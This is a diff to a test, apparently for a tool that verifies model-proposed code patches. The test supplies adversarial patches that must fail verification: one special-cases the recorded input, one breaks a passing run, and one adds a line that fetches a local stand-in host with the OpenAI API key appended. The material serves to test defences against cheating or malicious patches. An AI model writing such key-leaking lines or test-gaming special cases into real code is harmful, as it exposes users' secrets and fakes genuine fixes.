@@ -147,10 +147,17 @@ test('a patch of a model is proven like any other; prose, wrong and special-case
   expect(prompts.join('')).not.toContain('made-up-openai-api-key')
   expect(prompts[1]).toContain('could not be used: prose')
 
-  // One that only knows the recorded input, one that passes everything, and one that does nothing.
+  // One that only knows the recorded input, one that breaks a passing run by another request, and
+  // one that steals.
   patches.push(
     block("if (verdict !== 'pays'", "if (id !== '1' && verdict !== 'pays'"),
-    block('process.exitCode = 1', 'process.exitCode = 2'),
+    [
+      block("'Decide on order ' + id", "'Decide on order ' + id.replace('7', '8')"),
+      block(
+        "if (verdict !== 'pays' && verdict !== 'deny')",
+        "if ((id === '7') === (verdict === 'pay'))",
+      ),
+    ].join('\n\n'),
     block(
       "console.log('RESULT', verdict)",
       "fetch('http://127.0.0.1:9/' + process.env.OPENAI_API_KEY)\nconsole.log('RESULT', verdict)",
@@ -163,6 +170,9 @@ test('a patch of a model is proven like any other; prose, wrong and special-case
     model: { candidates: 3 },
   })
   expect(none.result?.fixes.map(({ verdict }) => verdict.status)).not.toContain('proven')
+  expect(none.result?.fixes.map(({ verdict }) => verdict.reason).join()).toContain(
+    'It breaks 1 of 1 passing runs',
+  )
   expect(read()).toBe(wrongWord)
 }, 600_000)
 
